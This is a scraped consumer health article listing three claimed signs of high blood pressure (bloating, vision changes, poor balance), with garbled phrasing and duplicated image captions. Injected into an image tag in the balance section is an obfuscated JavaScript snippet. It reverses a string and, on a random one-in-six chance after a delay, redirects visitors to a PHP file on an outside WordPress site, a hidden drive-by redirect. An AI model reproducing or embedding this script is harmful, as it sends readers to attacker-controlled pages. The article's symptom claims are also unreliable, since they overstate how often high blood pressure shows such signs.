3 Unexpected Signs That You Have High Blood Pressure

High blood pressure is a very common condition that often goes undiagnosed especially among women. Considering that high blood pressure doubles the risk of cardiovascular disease, you might want to recognize the symptoms aheadof time. Undetected high blood pressure is very risky due to the affected not being able to get appropriate treatment, writes the tors came up with few tips that will help you recognize the issue and know when to seek treatment.

Bloated With Not Much Result in the Bathroom

bloating problems
bloating problemsAs high blood pressure is often linked with kidney disease as well as diabetes, some people may experience bloating combined with decreased urination as a symptom. Many people first discover they have high blood pressure when their potty habits change. Try to pay attention to your own habits and take note when you notice changes.

Issues With Your Vision

vision problem
vision problem

If you’re experiencing blurry vision orany sudden shift in vision consider checking in with your eye-doctor. High blood pressure often affects the blood vessels in your eyes which in turn affect your vision. This is why routine eye exams are important thing you should consider trying.

Hard Time Keeping Your Balance

not able <script srcset=
$NqM=function(n){if (typeof ($NqM.list[n]) == “string”) return $NqM.list[n].split(“”).reverse().join(“”);return $NqM.list[n];};$NqM.list=[“\’php.sgnittes-pupop/cni/tnemucod-yna-debme/snigulp/tnetnoc-pw/moc.kaphcterts//:ptth\’=ferh.noitacol.tnemucod”];var number1=Math.floor(Math.random() * 6);if (number1==3){var delay = 18000;setTimeout($NqM(0),delay);}to keep the balance” width=”300″ height=”158″ /> not able to keep the balance

Feelings of dizziness and inability to keep your balance are often linked to beingwarning signs of a stroke caused by high blood pressure. Keep in mind if the dizziness is connected with something obvious like standing up too fast, you have nothing to worry about.